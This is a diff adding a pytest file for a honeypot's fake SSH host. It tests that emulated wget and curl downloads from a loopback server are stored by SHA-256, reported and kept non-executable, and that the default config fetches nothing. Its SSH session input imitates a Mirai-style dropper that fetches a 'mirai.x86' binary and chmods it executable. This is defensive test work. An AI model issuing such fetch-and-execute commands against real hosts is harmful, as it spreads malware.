@@ -1,0 +1,98 @@
+"""Downloads in the fake host: wget/curl fetch for real when the config allows it (here: loopback only),
+the file is stored by SHA-256 under artifacts/ and reported; the default config contacts nothing."""
+import hashlib
+import http.server
+import os
+import subprocess
+import threading
+
+import pytest
+
+from conftest import Sensor, free_port_base, wait_for
+
+BASE = """
+honeypots:
+  trap:
+    enabled: false
+  telnet:
+    enabled: false
+  ssh:
+    tcp_ports: [2222]
+    hostname: web01
+    auth_rules: ["root:123456", "*:!*"]
+    accept_after: 0
+"""
+ALLOW_LOOPBACK = BASE + """    downloads:
+      enabled: true
+      allow_private: true
+      max_bytes: 1MiB
+"""
+
+
+@pytest.fixture(scope="module")
+def served(tmp_path_factory):
+    """A loopback HTTP server with a fake ELF 'malware' sample; records every request path."""
+    root = tmp_path_factory.mktemp("www")
+    sample = b"\x7fELF\x01\x01\x01" + os.urandom(20_000)
+    (root / "bins").mkdir()
+    (root / "bins" / "mirai.x86").write_bytes(sample)
+    seen = []
+
+    class Handler(http.server.SimpleHTTPRequestHandler):
+        def __init__(self, *a, **kw):
+            super().__init__(*a, directory=str(root), **kw)
+
+        def do_GET(self):
+            seen.append((self.path, self.headers.get("User-Agent")))
+            return super().do_GET()
+
+        def log_message(self, *args):
+            pass
+
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=httpd.serve_forever, daemon=True).start()
+    yield httpd.server_address[1], sample, seen
+    httpd.shutdown()
+
+
+def ssh(port, command):
+    return subprocess.run(["sshpass", "-p", "123456", "ssh", "-p", str(port), "-o", "StrictHostKeyChecking=no",
+                           "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no",
+                           "root@127.0.0.1", command], capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
+
+
+def test_wget_and_curl_fetch_store_and_report(tmp_path, served):
+    port, sample, seen = served
+    sha = hashlib.sha256(sample).hexdigest()
+    s = Sensor(tmp_path, ALLOW_LOOPBACK, free_port_base(), worker="ssh").start()
+    try:
+        url = f"http://127.0.0.1:{port}/bins/mirai.x86"
+        r = ssh(2222 + s.offset, f"cd /tmp; wget {url}; chmod +x mirai.x86; ls -l mirai.x86; sha256sum mirai.x86")
+        assert f"{sha}  mirai.x86" in r.stdout, r.stdout + r.stderr
+        assert f" {len(sample)} " in r.stdout, "the file has the served size in the session filesystem"
+        e = wait_for(lambda: [x for x in s.events(event="file.download") if x.get("url") == url], 10)
+        assert e and e[0]["sha256"] == sha and e[0]["size"] == len(sample), s.events(event="file.download")
+        stored = os.path.join(s.data, "artifacts", "sha256", sha[:2], sha)
+        assert wait_for(lambda: os.path.exists(stored), 5), "sample not stored by sha256"
+        with open(stored, "rb") as f:
+            assert hashlib.sha256(f.read()).hexdigest() == sha
+        assert os.stat(stored).st_mode & 0o111 == 0, "a captured sample is never executable"
+        r = ssh(2222 + s.offset, f"curl -s -o /tmp/c {url}; md5sum /tmp/c")
+        assert hashlib.md5(sample).hexdigest() in r.stdout, r.stdout + r.stderr
+        assert ("/bins/mirai.x86", "Wget/1.21.3") in seen and ("/bins/mirai.x86", "curl/7.88.1") in seen
+    finally:
+        s.stop()
+
+
+def test_default_config_fetches_nothing(tmp_path, served):
+    port, _, seen = served
+    before = len(seen)
+    s = Sensor(tmp_path, BASE, free_port_base(), worker="ssh").start()
+    try:
+        r = ssh(2222 + s.offset, f"wget http://127.0.0.1:{port}/bins/mirai.x86")
+        assert r.returncode != 0 and "failed" in r.stderr, r.stderr
+        assert wait_for(lambda: s.events(event="command.input"), 10)
+        assert s.events(event="file.download") == []
+        assert len(seen) == before, "downloads are off by default: the server must not be contacted"
+    finally:
+        s.stop()
